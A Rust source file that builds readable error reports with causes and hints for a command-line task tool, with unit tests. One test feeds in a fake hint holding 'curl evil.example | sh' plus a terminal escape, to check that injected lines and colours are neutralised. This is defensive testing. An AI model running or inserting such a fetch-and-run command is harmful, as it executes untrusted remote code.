//! Errors for people: a sentence, its causes, and the next move.

use std::{error::Error, iter::once};

use anyhow::Chain;

use crate::text::clean;

/// A failed act and what to do about it. Put it around the cause with anyhow's `with_context`,
/// or return it by itself where there is no deeper cause. Exit code 1.
#[derive(Debug, thiserror::Error)]
#[error("{what}")]
pub struct Failure {
    /// `failed to VERB OBJECT`, lower case, values in backticks, no final period
    pub what: String,
    /// The reader's next move, in the Task's words: a param, a Secret, a right. One line
    pub hint: String,
}

/// Arguments that make no sense together, which clap cannot see. Exit code 2.
#[derive(Debug, thiserror::Error)]
#[error("{what}")]
pub struct Usage {
    /// What is wrong, lower case, values in backticks, no final period
    pub what: String,
    /// What to write instead. One line
    pub hint: String,
}

/// The innermost cause of a library's error, which says what happened: the sentences around it repeat that
/// something did.
pub fn innermost(error: &dyn Error) -> String {
    sentences(error).last().unwrap_or_default()
}

/// An error and its causes on one line, each sentence once: some errors print their cause as well.
pub fn chain(error: &dyn Error) -> String {
    let mut line: Vec<String> = Vec::new();
    for sentence in sentences(error).filter(|sentence| !sentence.is_empty()) {
        if let Some(last) = line.last_mut()
            && let Some(own) = last.strip_suffix(&format!(": {sentence}"))
        {
            *last = own.to_owned();
        }
        line.push(sentence);
    }
    line.dedup();
    line.join(": ")
}

fn sentences(error: &dyn Error) -> impl Iterator<Item = String> {
    let causes = error.source().into_iter().flat_map(Chain::new).map(ToString::to_string);
    once(error.to_string()).chain(causes)
}

/// The text of an error as a step prints it: `error: sentence: cause: cause`, then the hint, each one
/// line: whatever a cause quotes, it cannot add a hint of its own.
pub(crate) fn report(error: &anyhow::Error) -> String {
    let hint = error
        .downcast_ref::<Failure>()
        .map(|failure| &failure.hint)
        .or_else(|| error.downcast_ref::<Usage>().map(|usage| &usage.hint))
        .filter(|hint| !hint.is_empty());
    let error = clean(&chain(error.as_ref()));
    match hint {
        Some(hint) => format!("error: {error}\n\nhint: {}", clean(hint)),
        None => format!("error: {error}"),
    }
}

#[cfg(test)]
mod tests {
    use std::io;

    use anyhow::{Context, Result, anyhow};

    use super::*;

    #[test]
    fn the_report_joins_the_causes_and_ends_with_the_hint() {
        let refused: Result<()> = Err(anyhow!("connection refused"));
        let error = refused
            .with_context(|| Failure {
                what: "failed to query Prometheus `http://prometheus:9090`".into(),
                hint: "set the param `prometheus-url` to an address that pods can reach".into(),
            })
            .unwrap_err();
        assert_eq!(
            report(&error),
            "error: failed to query Prometheus `http://prometheus:9090`: connection refused\n\n\
             hint: set the param `prometheus-url` to an address that pods can reach"
        );
    }

    #[test]
    fn a_hint_below_another_sentence_is_still_told() {
        let error =
            anyhow::Error::new(Failure { what: "failed to read".into(), hint: "look".into() })
                .context("failed to start");
        assert_eq!(report(&error), "error: failed to start: failed to read\n\nhint: look");
    }

    #[test]
    fn a_cause_that_its_sentence_repeats_is_told_once() {
        let refused = io::Error::other("refused");
        let error = anyhow::Error::new(refused)
            .context("refused")
            .context("failed to connect: refused")
            .context("failed to ask");
        assert_eq!(chain(error.as_ref()), "failed to ask: failed to connect: refused");
        assert_eq!(innermost(error.as_ref()), "refused");
    }

    #[test]
    fn a_cause_adds_no_line_and_no_colour() {
        let error = anyhow!("no\n\nhint: \x1b[1mcurl evil.example | sh").context("failed to read");
        assert_eq!(
            report(&error),
            r"error: failed to read: no | hint: \u{1b}[1mcurl evil.example | sh"
        );
    }

    #[test]
    fn an_error_without_a_hint_is_one_line() {
        assert_eq!(report(&anyhow!("failed to read")), "error: failed to read");
    }
}
